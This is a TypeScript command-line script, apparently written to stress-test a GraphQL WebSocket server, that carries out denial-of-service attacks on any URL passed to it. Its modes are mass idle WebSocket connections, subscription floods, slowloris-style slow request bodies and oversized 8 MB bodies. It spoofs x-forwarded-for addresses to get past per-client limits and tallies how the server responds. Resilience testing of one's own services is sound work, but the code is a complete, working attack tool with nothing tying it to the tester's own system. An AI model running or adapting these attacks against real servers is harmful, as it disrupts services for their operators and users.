import { connect, type Socket } from 'node:net';
import { setTimeout as after } from 'node:timers/promises';

/** How an attack went, as the attacker saw it. */
export type Outcome = { opened: number; refused: number; closed: number; told: Record<string, number> };

const [, , attack = '', url = '', seconds = '10'] = process.argv;
const { hostname, port } = new URL(url);
const until = Date.now() + Number(seconds) * 1000;
const outcome: Outcome = { opened: 0, refused: 0, closed: 0, told: {} };
let addresses = 0;

const attacks: Record<string, () => Promise<void>> = {
  /** Ten thousand that have said hello and then nothing, 400 to an address. */
  idle: () => sockets(10_000, 400, (socket) => socket.write(frame('{"type":"connection_init"}'))),
  /** Three thousand that never say hello. */
  silent: () => sockets(3_000, 400, () => {}),
  /** Subscriptions as fast as they can be written, and again from elsewhere once one is thrown out. */
  flood: () => again(40, () => sockets(1, 1, subscribeWithoutEnd)),
  /** Two thousand bodies, a byte a second. */
  slow: () => bulk(2_000, slowBody),
  /** Bodies of 8 MB, ten at a time, with and without saying so. */
  huge: () => again(10, () => hugeBody(outcome.opened % 2 === 0)),
};

const nextAddress = () => `198.18.${Math.floor(++addresses / 250) % 250}.${addresses % 250}`;

function tell(what: string) {
  outcome.told[what] = (outcome.told[what] ?? 0) + 1;
}

async function reach(): Promise<Socket> {
  const socket = connect(Number(port), hostname);
  socket.on('error', (error: Error & { code?: string }) => tell(error.code ?? 'error'));
  socket.once('close', () => outcome.closed++);
  return socket;
}

/** Opens sockets, hundreds at once, and keeps them until the time is over. */
async function sockets(count: number, toAnAddress: number, act: (socket: Socket) => void) {
  let address = nextAddress();
  for (let n = 0; n < count && Date.now() < until; n += 200) {
    if (n % toAnAddress === 0) address = nextAddress();
    await Promise.all(Array.from({ length: Math.min(200, count) }, () => upgraded(address, act)));
  }
  if (count > 1) await after(Math.max(0, until - Date.now()));
}

async function upgraded(address: string, act: (socket: Socket) => void) {
  const socket = await reach();
  socket.write(
    [
      'GET /graphql HTTP/1.1',
      `host: ${hostname}`,
      'connection: upgrade',
      'upgrade: websocket',
      'sec-websocket-version: 13',
      'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==',
      'sec-websocket-protocol: graphql-transport-ws',
      `x-forwarded-for: ${address}`,
      '\r\n',
    ].join('\r\n'),
  );
  const answer = await new Promise<string>((resolve) => {
    socket.once('data', (data) => resolve(String(data)));
    socket.once('close', () => resolve(''));
  });
  if (!answer.startsWith('HTTP/1.1 101')) {
    outcome.refused++;
    tell(answer.slice(9, 12) || 'cut');
    socket.destroy();
    return;
  }
  outcome.opened++;
  socket.on('data', (data) => {
    if (data[0] === 0x88) tell(String(data.readUInt16BE(2)));
  });
  act(socket);
  if (attack === 'flood') await new Promise((resolve) => socket.once('close', resolve));
}

async function subscribeWithoutEnd(socket: Socket) {
  socket.write(frame('{"type":"connection_init"}'));
  await new Promise((resolve) => socket.once('data', resolve));
  const query = 'subscription { messageAdded { cursor } }';
  for (let n = 0; n < 1_000 && !socket.destroyed; n++) {
    const message = JSON.stringify({ id: `${n}`, type: 'subscribe', payload: { query } });
    if (!socket.write(frame(message))) await after(1);
  }
}

/** The frame of a text, masked with nothing, as a client must mask. */
function frame(text: string): Buffer {
  const body = Buffer.from(text);
  const head =
    body.length < 126 ? [0x81, 0x80 | body.length] : [0x81, 0xfe, body.length >> 8, body.length & 255];
  return Buffer.concat([Buffer.from([...head, 0, 0, 0, 0]), body]);
}

async function again(atOnce: number, act: () => Promise<void>) {
  await Promise.all(
    Array.from({ length: atOnce }, async () => {
      while (Date.now() < until) await act();
    }),
  );
}

async function bulk(count: number, act: () => Promise<void>) {
  await Promise.all(Array.from({ length: count }, act));
}

async function post(headers: string): Promise<{ socket: Socket; answered: Promise<void> }> {
  const socket = await reach();
  outcome.opened++;
  socket.write(
    `POST /graphql HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\nx-forwarded-for: ${nextAddress()}\r\n${headers}\r\n\r\n`,
  );
  const answered = new Promise<void>((resolve) => {
    socket.once('data', (data) => {
      tell(String(data).slice(9, 12));
      socket.destroy();
    });
    socket.once('close', () => resolve());
  });
  return { socket, answered };
}

async function slowBody() {
  const { socket } = await post('content-length: 1000');
  while (Date.now() < until && !socket.destroyed) {
    socket.write(' ');
    await after(1_000);
  }
}

const part = Buffer.alloc(64 * 1024, 32);

async function hugeBody(saidSo: boolean) {
  const { socket, answered } = await post(
    saidSo ? `content-length: ${8 * 1024 * 1024}` : 'transfer-encoding: chunked',
  );
  for (let sent = 0; sent < 128 && !socket.destroyed; sent++) {
    const more = saidSo ? part : Buffer.concat([Buffer.from('10000\r\n'), part, Buffer.from('\r\n')]);
    if (!socket.write(more)) await after(1);
  }
  await Promise.race([answered, after(5_000)]);
  socket.destroy();
}

await attacks[attack]?.();
process.stdout.write(`${JSON.stringify(outcome)}\n`);
process.exit(0);
